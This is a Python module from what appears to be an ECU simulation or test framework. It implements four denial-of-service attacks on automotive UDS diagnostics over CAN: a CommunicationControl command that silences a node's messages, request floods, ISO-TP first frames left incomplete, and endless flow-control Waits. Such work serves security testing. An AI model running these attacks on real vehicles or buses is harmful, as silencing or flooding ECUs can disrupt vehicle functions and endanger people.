"""The attacks on the diagnostic door that need no key: CommunicationControl to silence a node, and
the floods of the UDS server and its ISO-TP layer.

- ``commctl``: the extended session (no security needed, as ISO 14229-1 allows), then
  CommunicationControl with ``control`` (3: disable reception and transmission) for normal
  messages, the session then held with TesterPresent until the window closes; the server falls
  back to the default session one S3 later and the node speaks again;
- ``udsflood``: TesterPresent, ECUReset or session requests at ``rate``;
- ``isotpff``: ISO-TP first frames announcing ``size`` bytes from ``count`` testers, never followed
  by a consecutive frame, so each holds a reception slot until N_Cr;
- ``fcwait``: a ReadDataByIdentifier whose answer takes several frames, and to the server's first
  frame a flow control Wait at every tick, never a Continue.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

import can

from ecu_sim.attack import udslink
from ecu_sim.attack.family import ADDRESS, ATTACKS, NOT_NEGATIVE, SOURCE_DIAG, Context, whole
from ecu_sim.attack.tick import Frames, every, per_tick
from ecu_sim.attack.unlock import KEEP_S
from ecu_sim.isotp import frames as isotp
from ecu_sim.registry.family import ParamError, Reader, choice, param
from ecu_sim.runtime.ticks import ticks_in


def _did(text: str) -> int:
    value = int(text, 0)
    if not 0 <= value <= 0xFFFF:
        raise ValueError(text)
    return value


DID = Reader(_did, "a data identifier 0..0xffff (e.g. 0xf190)")
#: the requests a flood repeats, by name
FLOODED = {"testerpresent": (0x3E, 0x00), "ecureset": (0x11, 0x01), "session": (0x10, 0x03)}


@dataclass(frozen=True)
class CommControl:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    control: int = param(whole(0, 3), "3")


@ATTACKS.register("commctl", CommControl, "CommunicationControl: the extended session, then CONTROL (3: "
                  "disable reception and transmission) of the target's normal messages, the session "
                  "held by TesterPresent while the window is open")
def communication_control(p: CommControl, at: Context) -> Frames:
    """Asks again for the session and the control while the target has not answered the control."""
    keep = max(1, ticks_in(KEEP_S, at.period_s))
    retry = max(1, ticks_in(1.0, at.period_s))
    done: list[int] = []

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        out = []
        for answer in udslink.answers(heard, p.target, p.source):
            if answer[:1] == b"\x50":
                out.append(udslink.request(p.target, p.source, 0x28, p.control, 0x01))
            elif answer[:1] == b"\x68":
                done.append(n)
        if not done and n % retry == 0:
            out.append(udslink.request(p.target, p.source, 0x10, 0x03))
        elif done and (n - done[0]) % keep == keep - 1:
            out.append(udslink.request(p.target, p.source, 0x3E, 0x80))
        return out
    return frames


@dataclass(frozen=True)
class UdsFlood:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    service: str = param(choice(*FLOODED), "testerpresent")
    rate: float = param(NOT_NEGATIVE, "1000")


@ATTACKS.register("udsflood", UdsFlood, "a flood of single-frame UDS requests at RATE a second: "
                  "TesterPresent, ECUReset or DiagnosticSessionControl (extended)")
def uds_flood(p: UdsFlood, at: Context) -> Frames:
    count = per_tick(p.rate, at.period_s)
    payload = FLOODED[p.service]
    return lambda n, heard: [udslink.request(p.target, p.source, *payload) for _ in range(count(n))]


@dataclass(frozen=True)
class FirstFrames:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, "0x80")
    count: int = param(whole(1, 0xFD), "16")
    size: int = param(whole(8, isotp.MAX_MESSAGE), "4095")
    rate: float = param(NOT_NEGATIVE, "100")

    def __post_init__(self) -> None:
        if self.source + self.count - 1 > 0xFD:
            raise ParamError("source+count passes 0xfd, the last address")


@ATTACKS.register("isotpff", FirstFrames, "ISO-TP first frames never followed: first frames of SIZE bytes "
                  "from COUNT testers from SOURCE on, RATE a second in turn, no consecutive frame")
def first_frames(p: FirstFrames, at: Context) -> Frames:
    count = per_tick(p.rate, at.period_s)
    data = isotp.first(bytes((0x36, 0x01)) + bytes(p.size - 2))  # a TransferData that never comes
    sent = [0]

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        out = []
        for _ in range(count(n)):
            out.append(udslink.raw(p.target, p.source + sent[0] % p.count, data))
            sent[0] += 1
        return out
    return frames


@dataclass(frozen=True)
class FlowWait:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    did: int = param(DID, "0xf195")
    every: float = param(NOT_NEGATIVE, "1")


@ATTACKS.register("fcwait", FlowWait, "flow control Wait without end: a ReadDataByIdentifier of DID every "
                  "EVERY s, the server's first frame answered by a flow control Wait at every tick")
def flow_wait(p: FlowWait, at: Context) -> Frames:
    """The answer must take several frames (the software version, by default)."""
    due = every(p.every, at.period_s)
    waiting = [False]

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        out = []
        if due(n):
            out.append(udslink.request(p.target, p.source, 0x22, p.did >> 8, p.did & 0xFF))
        if udslink.first_frames(heard, p.target, p.source):
            waiting[0] = True
        if waiting[0]:
            out.append(udslink.flow_wait(p.target, p.source))
        return out
    return frames
